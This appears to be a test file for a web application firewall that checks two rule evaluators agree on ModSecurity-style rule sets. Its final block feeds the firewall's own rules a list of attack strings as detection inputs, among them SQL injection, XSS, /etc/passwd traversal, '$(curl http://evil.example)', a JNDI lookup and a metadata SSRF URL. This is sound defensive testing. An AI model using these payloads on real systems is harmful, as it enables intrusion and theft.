import { globSync, readFileSync } from 'node:fs'
import { basename } from 'node:path'
import { describe, expect, test } from 'vitest'
import {
  accountOf,
  injection,
  pick,
  type RandomExchange,
  randomExchange,
  randomOf,
  randomRefinement,
  randomRules,
  run,
} from '../../../test/kit/random-rules.ts'
import { parseRules, RuleError } from '../seclang/index.ts'
import { headOf, type Sent } from './fixture.ts'
import { compileProgram, type Program, type ProgramOptions, type Refinement } from './program.ts'

type Options = Omit<Partial<ProgramOptions>, 'evaluator' | 'injection'>

/** The same rules under both evaluators, with nothing remembered in common. */
function bothOf(
  text: string,
  options: Options = {},
  refinement?: Refinement,
): readonly [plain: Program, fast: Program] {
  const of = (evaluator: 'plain' | 'fast') => {
    const rules = parseRules([{ name: 'test.conf', text }])
    const program = compileProgram(rules, { injection, ...options, evaluator })
    return refinement === undefined ? program : program.refine(refinement)
  }
  return [of('plain'), of('fast')]
}

const everyPhase = [1, 2, 3, 4, 5]

function exchangeOf(
  uri: string,
  { body, reply = {}, ...head }: Sent = {},
  phases: readonly number[] = everyPhase,
): RandomExchange {
  const { status = 200, headers = ['Content-Type', 'text/html'], body: replyBody = '' } = reply
  return {
    head: headOf(uri, { ...(body !== undefined && { method: 'POST' }), ...head }),
    body: body === undefined ? undefined : Buffer.from(body, 'latin1'),
    reply: { status, protocol: 'HTTP/1.1', headers },
    replyBody: Buffer.from(replyBody, 'latin1'),
    phases,
  }
}

function accountAfter(program: Program, exchange: RandomExchange): Account {
  const steps = run(program, exchange)
  for (;;) {
    const { done, value } = steps.next()
    if (done) return accountOf(program, value) as Account
  }
}

interface Account {
  readonly matches: readonly (readonly [id: number, ...rest: unknown[]])[]
}

/** Ids of what matched, once both evaluators have told the same of each exchange. */
function agreed(programs: readonly [Program, Program], ...exchanges: readonly RandomExchange[]): number[][] {
  const [plain, fast] = programs
  return exchanges.map((exchange) => {
    const account = accountAfter(plain, exchange)
    expect(accountAfter(fast, exchange)).toEqual(account)
    return account.matches.map(([id]) => id)
  })
}

const setup = 'SecRuleEngine On\nSecRequestBodyAccess On\nSecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n'

describe('both evaluators say the same of', () => {
  const json = ['Content-Type', 'application/json']

  test.each<[name: string, rules: string, exchanges: readonly RandomExchange[], ids: readonly (readonly number[])[]]>([
    [
      'a chain whose head sets what its members and later rules read, though the chain fails',
      `SecAction "id:1,phase:1,pass,nolog,setvar:tx.level=1"
      SecRule ARGS:a "@streq x" "id:2,phase:1,pass,log,setvar:tx.level=2,setvar:tx.other=1,chain"
        SecRule ARGS:b "@streq y" "setvar:tx.level=3"
      SecRule TX:level "@eq 2" "id:3,phase:1,pass"
      SecRule TX:level "@lt 2" "id:4,phase:2,pass,nolog,skipAfter:END"
      SecRule ARGS:a "@streq x" "id:5,phase:2,pass"
      SecMarker END
      SecRule &TX:other "@eq 1" "id:6,phase:2,pass"`,
      [exchangeOf('/?a=x'), exchangeOf('/?a=x&b=y'), exchangeOf('/?b=y'), exchangeOf('/')],
      [[3, 5, 6], [2, 5, 6], [], []],
    ],
    [
      'captures that a later rule reads, folded ones before and behind those of a request',
      `SecAction "id:1,phase:1,pass,nolog,setvar:tx.a=1"
      SecRule TX:a "@rx (.)" "id:2,phase:1,pass,nolog,capture"
      SecRule ARGS:p "@rx (.)(.)" "id:3,phase:1,pass,nolog,capture"
      SecRule TX:1 "@streq x" "id:4,phase:1,pass,msg:'%{TX.0} %{TX.2}'"
      SecRule TX:a "@rx (.)" "id:5,phase:1,pass,nolog,capture"
      SecRule TX:1 "@streq 1" "id:6,phase:1,pass,msg:'%{TX.0} %{TX.2}'"
      SecRule ARGS:p "@rx ^%{TX.1}" "id:7,phase:2,pass"`,
      [exchangeOf('/?p=xy'), exchangeOf('/?p=1x'), exchangeOf('/')],
      [[4, 6], [6, 7], [6]],
    ],
    [
      'quiet rules that matched TX at load, whose value a later action tells',
      `SecAction "id:1,phase:1,pass,nolog,setvar:tx.a=1"
      SecRule TX:a "@eq 1" "id:2,phase:1,pass,nolog"
      SecAction "id:3,phase:1,pass,msg:'%{MATCHED_VAR} of %{MATCHED_VAR_NAME}'"
      SecRule ARGS "@streq x" "id:4,phase:1,pass,nolog"
      SecAction "id:5,phase:1,pass,msg:'%{MATCHED_VAR} of %{MATCHED_VAR_NAME}'"
      SecRule &TX:a "@eq 1" "id:6,phase:1,pass,nolog"
      SecRule MATCHED_VAR_NAME "@streq &TX:a" "id:7,phase:1,pass"`,
      [exchangeOf('/?p=x'), exchangeOf('/')],
      [
        [3, 5, 7],
        [3, 5, 7],
      ],
    ],
    [
      'defaults that a request overrides before and behind the rules that ask for them',
      `SecRule ARGS:early "@unconditionalMatch" "id:1,phase:1,pass,nolog,setvar:tx.level=2"
      SecRule &TX:level "@eq 0" "id:2,phase:1,pass,nolog,setvar:tx.level=1"
      SecRule ARGS:late "@unconditionalMatch" "id:3,phase:1,pass,nolog,setvar:tx.level=3"
      SecRule TX:level "@lt 2" "id:4,phase:2,pass,nolog,skipAfter:END"
      SecRule REQUEST_URI "@contains a" "id:5,phase:2,pass,setvar:tx.score=+%{tx.level}"
      SecMarker END
      SecRule TX:score "@ge 3" "id:6,phase:2,deny"`,
      [exchangeOf('/'), exchangeOf('/?early'), exchangeOf('/?late'), exchangeOf('/?early&late')],
      [[], [5], [5, 6], [5, 6]],
    ],
    [
      'rules that jump, whether that was known at load or not',
      `SecRule ARGS:a "@streq 1" "id:1,phase:1,pass,nolog,skip:2"
      SecAction "id:2,phase:1,pass,nolog,setvar:tx.a=1"
      SecRule ARGS:a "@rx \\d" "id:3,phase:1,pass"
      SecRule &TX:a "@eq 1" "id:4,phase:1,pass,nolog,skipAfter:ONE"
      SecRule ARGS:a "@rx \\d" "id:5,phase:1,pass"
      SecMarker ONE
      SecRule ARGS:a "@streq 2" "id:6,phase:1,pass,nolog,skipAfter:NOWHERE"
      SecRule ARGS:a "@rx \\d" "id:7,phase:1,pass"
      SecAction "id:8,phase:2,pass,log,setvar:tx.b=1"`,
      [exchangeOf('/?a=1'), exchangeOf('/?a=2'), exchangeOf('/?a=3'), exchangeOf('/')],
      [[5, 7, 8], [3, 8], [3, 7, 8], [8]],
    ],
    [
      'a rule that skips what matches nothing on most requests, and what is known behind it',
      `SecAction "id:1,phase:1,pass,nolog,setvar:tx.a=1"
      SecRule ARGS:a "!@streq x" "id:2,phase:1,pass,nolog,skipAfter:END"
      SecRule ARGS:a "@rx ^x" "id:3,phase:1,pass,setvar:tx.a=2"
      SecMarker END
      SecRule TX:a "@eq 1" "id:4,phase:1,pass,nolog,setvar:tx.b=1"
      SecAction "id:5,phase:1,pass,msg:'%{MATCHED_VAR} %{TX.b}'"
      SecRule &TX:b "@eq 1" "id:6,phase:2,pass"`,
      [exchangeOf('/?a=x'), exchangeOf('/?a=y'), exchangeOf('/')],
      [
        [3, 5],
        [5, 6],
        [5, 6],
      ],
    ],
    [
      'rules that a request takes out, folded and open ones, by id, range and tag',
      `SecRule ARGS:a "@streq id" "id:1,phase:1,pass,nolog,ctl:ruleRemoveById=5"
      SecRule ARGS:a "@streq range" "id:2,phase:1,pass,nolog,ctl:ruleRemoveById=5-7"
      SecRule ARGS:a "@streq tag" "id:3,phase:1,pass,nolog,ctl:ruleRemoveByTag=folded"
      SecRule ARGS:a "@streq open" "id:4,phase:1,pass,nolog,ctl:ruleRemoveByTag=open"
      SecAction "id:5,phase:1,pass,nolog,setvar:tx.score=5,tag:folded"
      SecRule TX:score "@ge 5" "id:6,phase:1,pass,nolog,setvar:tx.high=1,tag:folded"
      SecRule ARGS:a "@rx ^[a-z]+$" "id:7,phase:2,pass,tag:open"
      SecRule &TX:high "@eq 1" "id:8,phase:2,pass,tag:open"
      SecRule &TX:score "@eq 0" "id:9,phase:2,pass"`,
      ['id', 'range', 'tag', 'open', 'none'].map((a) => exchangeOf(`/?a=${a}`)),
      [[7, 9], [9], [7, 9], [], [7, 8]],
    ],
    [
      'a rule that takes out others at load, and is taken out by the request',
      `SecRule ARGS:a "@streq x" "id:1,phase:1,pass,nolog,ctl:ruleRemoveById=2"
      SecAction "id:2,phase:1,pass,nolog,ctl:ruleRemoveById=3,ctl:ruleRemoveById=4"
      SecRule ARGS:b "@streq y" "id:3,phase:1,pass"
      SecAction "id:4,phase:1,pass,nolog,setvar:tx.a=1"
      SecRule &TX:a "@eq 1" "id:5,phase:1,pass"`,
      [exchangeOf('/?b=y'), exchangeOf('/?a=x&b=y')],
      [[], [3, 5]],
    ],
    [
      'targets that a request takes out, of TX and of arguments',
      `SecRule ARGS:a "@streq 1" "id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetById=4;TX:score"
      SecRule ARGS:a "@streq 2" "id:2,phase:1,pass,nolog,ctl:ruleRemoveTargetById=6;ARGS:p"
      SecRule ARGS:a "@streq 3" "id:3,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=t;ARGS:/^[pq]/"
      SecAction "id:8,phase:1,pass,nolog,setvar:tx.score=1"
      SecRule TX:score "@eq 1" "id:4,phase:1,pass,nolog,setvar:tx.quiet=1"
      SecRule &TX:quiet "@eq 1" "id:5,phase:2,pass"
      SecRule ARGS "@contains x" "id:6,phase:2,pass,tag:t"
      SecRule ARGS|!ARGS:q "@contains x" "id:7,phase:2,pass,tag:t"`,
      [1, 2, 3, 4].map((a) => exchangeOf(`/?a=${a}&p=x&q=x&r=x`)),
      [
        [6, 6, 6, 7, 7],
        [5, 6, 6, 7, 7],
        [5, 6, 7],
        [5, 6, 6, 6, 7, 7],
      ],
    ],
    [
      'names of TX that are made up by the request, and happen to be those that folded rules ask for',
      `SecRule ARGS:a "@rx ." "id:1,phase:1,pass,nolog,setvar:'tx.%{MATCHED_VAR}=9'"
      SecRule ARGS:b "@rx ." "id:2,phase:1,pass,nolog,setvar:'tx.lev%{MATCHED_VAR}=9'"
      SecRule &TX:level "@eq 0" "id:3,phase:1,pass,nolog,setvar:tx.level=1"
      SecRule TX:level "@lt 2" "id:4,phase:1,pass,nolog,skipAfter:END"
      SecRule TX:/^le/ "@eq 9" "id:5,phase:1,pass"
      SecMarker END
      SecRule &TX "@gt 1" "id:6,phase:1,pass"`,
      [exchangeOf('/?a=level'), exchangeOf('/?b=EL'), exchangeOf('/?a=x&b=y'), exchangeOf('/')],
      [[5], [5], [6], []],
    ],
    [
      'each stage of multiMatch that changes a value, and counts it once',
      `SecRule ARGS|ARGS_NAMES "@rx x" "id:1,phase:1,pass,multiMatch,t:lowercase,t:urlDecodeUni,t:removeNulls,setvar:tx.score=+1"
      SecRule ARGS "@rx \\x00$" "id:2,phase:1,pass,t:removeComments"
      SecRule ARGS "@rx ^X$" "id:3,phase:1,pass,t:lowercase"
      SecRule ARGS "@rx ^X$" "id:4,phase:1,pass,multiMatch,t:lowercase"
      SecRule ARGS "@rx ^[0-9]$" "id:5,phase:1,pass,multiMatch,t:base64Decode,t:length"`,
      ['X', '%2578', 'x%2500', 'eA==', 'a/**/', ''].map((a) => exchangeOf(`/?a=${a}`)),
      [[1, 4, 5], [1, 5], [1, 1, 1, 5], [5], [2, 5], [5]],
    ],
    [
      'negation, counts, and members chosen and left out by patterns',
      `SecRule ARGS:/^id/|!ARGS:/x$/ "!@rx ^\\d+$" "id:1,phase:1,pass"
      SecRule &ARGS:/^id/ "@gt 1" "id:2,phase:1,pass"
      SecRule REQUEST_HEADERS:/^x-/|!REQUEST_HEADERS:x-b "@contains 1" "id:3,phase:1,pass"
      SecRule &REQUEST_HEADERS:Referer "@eq 0" "id:4,phase:1,pass"
      SecRule ARGS_NAMES|!ARGS:ida "@rx ^id" "id:5,phase:1,pass"`,
      [
        exchangeOf('/?ida=1&idb=b&idx=x', { headers: ['X-A', '1', 'X-B', '1'] }),
        exchangeOf('/?id=1', { headers: ['Referer', '1'] }),
      ],
      [[1, 2, 3, 4, 5, 5, 5], [5]],
    ],
    [
      'operators whose argument comes from the request or from TX',
      `SecAction "id:1,phase:1,pass,nolog,setvar:'tx.methods=GET HEAD',setvar:'tx.bad=('"
      SecRule REQUEST_METHOD "!@within %{tx.methods}" "id:2,phase:1,pass"
      SecRule ARGS:a "@streq %{REQUEST_HEADERS.host}" "id:3,phase:1,pass"
      SecRule ARGS:a "@rx ^%{ARGS.b}$" "id:4,phase:1,pass"
      SecRule TX:methods "@rx %{tx.bad}" "id:5,phase:1,pass,nolog"
      SecRule TX:methods "!@rx %{tx.bad}" "id:6,phase:1,pass"`,
      [exchangeOf('/?a=shop.example&b=(', { method: 'PUT' }), exchangeOf('/?a=x&b=.'), exchangeOf('/?a=x&b=(')],
      [[2, 3, 6], [4, 6], [6]],
    ],
    [
      'the engine turned on and off for one transaction',
      `SecRule ARGS:a "@streq off" "id:1,phase:1,pass,nolog,ctl:ruleEngine=Off"
      SecRule ARGS:a "@streq look" "id:2,phase:1,pass,nolog,ctl:ruleEngine=DetectionOnly"
      SecRule ARGS:a "@streq later" "id:3,phase:1,pass,log,ctl:ruleEngine=Off,chain"
        SecRule ARGS:b "@streq x"
      SecAction "id:4,phase:1,pass,nolog,setvar:tx.a=1"
      SecRule &TX:a "@eq 1" "id:5,phase:2,deny"
      SecRule ARGS:a "@rx ." "id:6,phase:5,pass"`,
      ['off', 'look', 'later', 'none'].map((a) => exchangeOf(`/?a=${a}`)),
      [[], [5, 6], [], [5, 6]],
    ],
    [
      'what allow leaves of the phases behind it, and of what was known of them',
      `SecRule ARGS:a "@streq phase" "id:1,phase:1,allow:phase,nolog"
      SecRule ARGS:a "@streq request" "id:2,phase:1,allow:request,nolog"
      SecRule ARGS:a "@streq all" "id:3,phase:1,allow,nolog"
      SecAction "id:4,phase:1,pass,nolog,setvar:tx.level=1"
      SecRule &TX:level "@eq 1" "id:5,phase:2,pass,nolog,skipAfter:END"
      SecAction "id:6,phase:2,pass,nolog,setvar:tx.unset=1"
      SecMarker END
      SecRule REQUEST_HEADERS:Host "@contains shop" "id:7,phase:2,pass"
      SecRule REQUEST_HEADERS:Host "@contains shop" "id:8,phase:3,pass"
      SecRule REQUEST_HEADERS:Host "@contains shop" "id:9,phase:5,pass"
      SecRule &TX:unset "@eq 1" "id:10,phase:5,pass"`,
      ['phase', 'request', 'all', 'none'].map((a) => exchangeOf(`/?a=${a}`)),
      [[7, 8, 9, 10], [8, 9], [9], [7, 8, 9]],
    ],
    [
      'a body in each form, its names and its values',
      `SecRule ARGS_NAMES "@rx (?i)union\\.select" "id:1,phase:2,pass"
      SecRule ARGS_POST|XML:/*|XML://@* "@pm attack" "id:2,phase:2,pass,t:lowercase"
      SecRule FILES|FILES_NAMES|MULTIPART_PART_HEADERS "@contains evil" "id:3,phase:2,pass"
      SecRule REQUEST_BODY "@rx attack" "id:4,phase:2,pass"
      SecRule XML:/* "@rx at.*tack" "id:5,phase:2,pass"
      SecRule REQBODY_ERROR "!@eq 0" "id:6,phase:2,pass"`,
      [
        exchangeOf('/', { headers: json, body: '{"union":{"select":1,"b":[{"attack":"x"},"ATTACK"]}}' }),
        exchangeOf('/', { headers: json, body: '{"union":{"select":"attack"' }),
        exchangeOf('/', {
          headers: ['Content-Type', 'application/x-www-form-urlencoded'],
          body: 'a=attack&union.select=1',
        }),
        exchangeOf('/', { headers: ['Content-Type', 'application/xml'], body: '<r a="attack">at<b/>tack</r>' }),
        exchangeOf('/', {
          headers: ['Content-Type', 'multipart/form-data; boundary=b'],
          body: '--b\r\nContent-Disposition: form-data; name="evil"; filename="evil.exe"\r\n\r\nx\r\n--b--\r\n',
        }),
      ],
      [
        [1, 2],
        [1, 2, 6],
        [1, 2, 4],
        [2, 2, 5],
        [3, 3, 3],
      ],
    ],
    [
      'a response, its scores being those of the request too',
      `SecAction "id:1,phase:1,pass,nolog,setvar:tx.score=0"
      SecRule ARGS:a "@streq x" "id:2,phase:2,pass,setvar:tx.score=+2"
      SecRule RESPONSE_STATUS "@rx ^5" "id:3,phase:3,pass,setvar:tx.score=+3"
      SecRule RESPONSE_HEADERS:x-powered-by|RESPONSE_HEADERS_NAMES "@pm php" "id:4,phase:3,pass,t:lowercase"
      SecRule RESPONSE_BODY "@rx at line \\d+" "id:5,phase:4,pass,setvar:tx.score=+3"
      SecRule TX:score "@ge 5" "id:6,phase:4,deny"
      SecRule RESPONSE_STATUS|RESPONSE_BODY "@contains 5" "id:7,phase:5,pass"`,
      [
        exchangeOf('/?a=x', { reply: { status: 500, headers: ['Content-Type', 'text/html', 'X-Powered-By', 'PHP'] } }),
        exchangeOf('/', { reply: { body: 'Error at line 5' } }),
        exchangeOf('/?a=x', { reply: { body: 'Error at line 5' } }),
        exchangeOf('/'),
      ],
      [[2, 3, 4, 6, 7], [5, 7], [2, 5, 6, 7], []],
    ],
  ])('%s', (_, rules, exchanges, ids) => {
    const programs = bothOf(setup + rules)
    expect(agreed(programs, ...exchanges)).toEqual(ids)
    // What one transaction leaves behind in a program must not tell in the next.
    expect(agreed(programs, ...exchanges.toReversed())).toEqual(ids.toReversed())
  })

  test('an argument that makes no sense, each time that it is asked for', () => {
    const programs = bothOf(
      `${setup}SecRule ARGS:a "@rx %{ARGS.a}" "id:1,phase:1,pass"\nSecAction "id:2,phase:1,pass,nolog,setvar:'tx.bad=('"\nSecRule TX:bad "@rx %{tx.bad}" "id:3,phase:1,pass,nolog"`,
    )
    for (let i = 0; i < 3; i++) agreed(programs, exchangeOf('/?a=(&a=(&a=x'), exchangeOf('/'))
  })

  test('lists of phrases that outgrow the automaton of literals', () => {
    const random = randomOf(1)
    const word = () => Array.from({ length: 6 }, () => pick(random, [...'abcdefghijklmnopqrstuvwxyz'])).join('')
    const words = Array.from({ length: 20_000 }, word)
    const programs = bothOf(
      `${setup}SecRule ARGS "@pm ${words.join(' ')}" "id:1,phase:1,pass"\nSecRule ARGS "@pm abcdef bcdefg" "id:2,phase:1,pass"`,
    )
    const exchanges = [`/?a=x${words[777]}x`, '/?a=xabcdefx', '/?a=0123'].map((uri) => exchangeOf(uri))
    expect(agreed(programs, ...exchanges)).toEqual([[1], [2], []])
  })
})

describe('where phases do not come to pass', () => {
  const rules = `${setup}
  SecRule REQUEST_HEADERS:X-A "@streq 1" "id:1,phase:1,deny"
  SecAction "id:2,phase:1,pass,nolog,setvar:tx.one=1"
  SecAction "id:3,phase:2,pass,nolog,setvar:tx.two=1"
  SecRule REQUEST_COOKIES|REQUEST_HEADERS:X-B "@streq x" "id:4,phase:2,pass"
  SecRule &TX:one "@eq 1" "id:5,phase:3,pass,nolog,setvar:tx.three=1"
  SecAction "id:6,phase:4,pass,nolog,setvar:tx.four=1"
  SecRule REQUEST_HEADERS:X-B|REQUEST_COOKIES "@streq x" "id:7,phase:5,pass"
  SecRule &TX:two "@eq 1" "id:8,phase:5,pass,nolog,setvar:tx.five=1"
  SecRule TX:/./ "@eq 1" "id:9,phase:5,pass,msg:'%{MATCHED_VAR_NAME}'"`
  const headers = ['X-B', 'x', 'Cookie', 'c=x']

  test.each<[string, readonly number[], string[], number[]]>([
    ['since the request was refused', everyPhase, ['X-A', '1'], [1, 7, 7]],
    ['since the client went away', [1, 5], [], [7, 7, 9]],
    ['since there was no response', [1, 2, 5], [], [4, 4, 7, 7, 9, 9, 9]],
    ['since the response had no body', [1, 2, 3, 5], [], [4, 4, 7, 7, 9, 9, 9, 9]],
    ['but all of them do', everyPhase, [], [4, 4, 7, 7, 9, 9, 9, 9, 9]],
  ])('%s, rules see what there was', (_, phases, more, ids) => {
    expect(agreed(bothOf(rules), exchangeOf('/', { headers: [...headers, ...more] }, phases))).toEqual([ids])
  })

  test('since a request is too large to look at and passes, rules of later phases see its head', () => {
    const programs = bothOf(rules, { budget: { bytesMax: 40 }, onBudget: 'pass' })
    expect(agreed(programs, exchangeOf('/', { headers }), exchangeOf(`/${'x'.repeat(80)}`, { headers }))).toEqual([
      [4, 4, 7, 7, 9, 9, 9, 9, 9],
      [4, 4, 7, 7, 9, 9, 9],
    ])
  })

  test('since the budget was spent in the middle of a scan, later phases look at all that it left out', () => {
    const costly = `${setup}
    SecRule ARGS_GET "@rx (?:a|b)*c" "id:1,phase:1,pass"
    SecRule REQUEST_HEADERS "@contains zz" "id:2,phase:1,pass"
    SecRule REQUEST_HEADERS:Host "@contains shop" "id:3,phase:3,pass"`
    const programs = bothOf(costly, { budget: { stepsMax: 100 }, onBudget: 'pass' })
    expect(agreed(programs, exchangeOf('/?q=c'), exchangeOf(`/?q=${'ab'.repeat(500)}`))).toEqual([[1, 3], [3]])
  })
})

describe('a refined program', () => {
  const rules = `${setup}
  SecRule &TX:level "@eq 0" "id:1,phase:1,pass,nolog,setvar:tx.level=1"
  SecRule TX:level "@ge 2" "id:2,phase:1,pass,nolog,setvar:tx.high=1,tag:level"
  SecRule &TX:high "@eq 1" "id:3,phase:1,pass"
  SecRule ARGS|ARGS_NAMES|REQUEST_HEADERS:X-A "@rx (?i)select" "id:4,phase:2,pass,tag:sql"
  SecRule ARGS:q "@rx select" "id:5,phase:2,pass,tag:sql"
  SecRule ARGS "!@rx select" "id:6,phase:2,pass"`
  const tx = { variable: 'TX', selector: { kind: 'name', name: 'level' } as const, count: false }
  const args = { variable: 'ARGS', selector: { kind: 'name', name: 'q' } as const, count: false }
  const exchange = exchangeOf('/?q=select&select=1', { headers: ['X-A', 'Select'] })

  test.each<[string, Refinement, number[]]>([
    ['has nothing of its own', {}, [4, 4, 4, 5, 6]],
    ['begins with other variables', { variables: { level: '2' } }, [3, 4, 4, 4, 5, 6]],
    ['has lost a rule that was folded', { variables: { level: '2' }, exclusions: [{ tag: 'level' }] }, [4, 4, 4, 5, 6]],
    [
      'has lost what a folded rule looked at',
      { variables: { level: '2' }, exclusions: [{ ids: [2, 2], targets: [tx] }] },
      [4, 4, 4, 5, 6],
    ],
    ['has lost an open rule', { exclusions: [{ ids: [4, 4] }] }, [5, 6]],
    ['has lost an argument', { exclusions: [{ tag: 'sql', targets: [args] }] }, [4, 4, 6]],
    ['knows a value and its name', { shape: { query: new Map([['q', () => true]]) } }, [4, 4, 5, 6]],
    [
      'knows a name',
      { shape: { query: new Map([['select', () => false]]), headers: new Map([['x-a', () => true]]) } },
      [4, 4, 5, 6],
    ],
  ])('that %s says the same under both', (_, refinement, ids) => {
    expect(agreed(bothOf(rules, {}, refinement), exchange)).toEqual([ids])
  })

  test('keeps apart what was worked out for another one of the same rules', () => {
    const [plain, fast] = bothOf(rules)
    const refinements: readonly Refinement[] = [
      { variables: { level: '2' } },
      { variables: { level: '2' }, exclusions: [{ ids: [2, 2], targets: [tx] }] },
      { variables: { level: '2' } },
      {},
    ]
    const seen = refinements.map((one) => agreed([plain.refine(one), fast.refine(one)], exchange)[0]!.includes(3))
    expect(seen).toEqual([true, false, true, false])
  })
})

test('transactions that take turns phase by phase do not see each other', () => {
  const rules = `${setup}
  SecAction "id:1,phase:1,pass,nolog,setvar:tx.score=0"
  SecRule ARGS|REQUEST_COOKIES "@rx (?i)(s)elect" "id:2,phase:1,pass,capture,setvar:tx.score=+1"
  SecRule ARGS_NAMES|ARGS "@pm union drop" "id:3,phase:2,pass,t:urlDecodeUni,setvar:tx.score=+1"
  SecRule ARGS|REQUEST_HEADERS "@streq %{TX.1}" "id:4,phase:2,pass"
  SecRule TX:score "@ge 2" "id:5,phase:3,deny,chain"
    SecRule REQUEST_COOKIES "@rx select"`
  const json = { headers: ['Content-Type', 'application/json'], body: '{"union":[{"a":"Select"},{"b":"%64rop"}]}' }
  const exchanges = [
    exchangeOf('/?a=select', { headers: ['Cookie', 'c=select'], body: 'x' }),
    exchangeOf('/?a=union&b=s', { headers: ['X-A', 'S'] }),
    exchangeOf('/?q=SELECT&r=drop', json),
    exchangeOf('/', json),
    exchangeOf('/?q=drop', { headers: ['Cookie', 'c=select'] }),
  ]
  const [plain, fast] = bothOf(rules)
  const alone = exchanges.map((exchange) => accountAfter(plain, exchange))
  const under = exchanges.map((exchange) => run(fast, exchange))
  const told: unknown[] = []
  while (told.filter(Boolean).length < under.length) {
    under.forEach((steps, at) => {
      const { done, value } = steps.next()
      if (done && value !== undefined) told[at] = accountOf(fast, value)
    })
  }
  expect(told).toEqual(alone)
  expect(alone.map(({ matches }) => matches.length)).toEqual([3, 1, 6, 4, 3])
})

const runs = Number(process.env.FUZZ_RUNS ?? 400)
const seed = Number(process.env.FUZZ_SEED ?? 1)

test(
  'random rules match the same of random exchanges, whichever phases these have',
  () => {
    let matched = 0
    for (let at = 0; at < runs; at++) {
      const random = randomOf(seed * 1_000_000 + at)
      const text = randomRules(random)
      if (!isRuleSet(text)) continue
      const variables = random(3) === 0 ? { level: '1', a: 'x' } : {}
      const [plain, fast] = bothOf(text, { variables }, random(3) === 0 ? randomRefinement(random) : undefined)
      const exchanges = Array.from({ length: 5 }, () => randomExchange(random))
      for (const exchange of exchanges) {
        const account = accountAfter(plain, exchange)
        if (account.matches.length > 0) matched++
        const where = `FUZZ_SEED=${seed}, run ${at}: ${exchange.head.uri}\n${text}`
        expect(accountAfter(fast, exchange), where).toEqual(account)
      }
    }
    expect(matched).toBeGreaterThan(runs)
  },
  30_000 + runs * 30,
)

/** What is put together at random is not always a rule set: `SecRuleUpdateTargetById` of a SecAction is refused, and rightly so. */
function isRuleSet(text: string): boolean {
  try {
    parseRules([{ name: 'test.conf', text }])
    return true
  } catch (error) {
    if (error instanceof RuleError) return false
    throw error
  }
}

describe('our own rules', () => {
  const folder = new URL('../../../rules/', import.meta.url).pathname
  const files = globSync(`${folder}*.conf`).sort((a, b) => (basename(a) === 'base.conf' ? -1 : a < b ? -1 : 1))
  const text = files.map((file) => readFileSync(file, 'latin1')).join('\n')

  test.each(['1', '2', '3'])('match the same of attacks and of what is none at level %s', (level) => {
    const [plain, fast] = bothOf(text, { variables: { portcullis_paranoia: level } })
    const attacks = [
      "1' or '1'='1",
      '1 UNION SELECT password FROM users--',
      '<script>alert(1)</script>',
      '../../../../etc/passwd',
      ';cat /etc/passwd',
      '$(curl http://evil.example)',
      '{{7*7}}',
      '${jndi:ldap://evil.example/a}',
      'http://169.254.169.254/latest/meta-data/',
      '*)(uid=*))(|(uid=*',
      '%0d%0aSet-Cookie: a=b',
      "{'$ne': 1}",
      'a\0b',
    ]
    const harmless = [
      'Müller & Söhne',
      '2026-11-22T18:00:00Z',
      'select the best of all',
      'a <b> c',
      "O'Neil",
      '50% off',
    ]
    const ids = [...attacks, ...harmless].map((value) => {
      const escaped = encodeURIComponent(value)
      const places = [
        exchangeOf(`/search?q=${escaped}&${escaped}=1`),
        exchangeOf(`/${escaped}`, { headers: ['User-Agent', value, 'Cookie', `a=${escaped}`] }),
        exchangeOf('/', {
          headers: ['Content-Type', 'application/json'],
          body: JSON.stringify({ a: [{ b: value }], [value]: 1 }),
        }),
        exchangeOf('/', { headers: ['Content-Type', 'application/x-www-form-urlencoded'], body: `a=${escaped}` }),
        exchangeOf('/', { reply: { status: 500, body: `<p>${value} at line 5 of /var/www/app.php</p>` } }),
      ]
      return agreed([plain, fast], ...places).flat()
    })
    expect(ids.slice(0, attacks.length).filter((found) => found.length === 0)).toEqual([])
  })
})
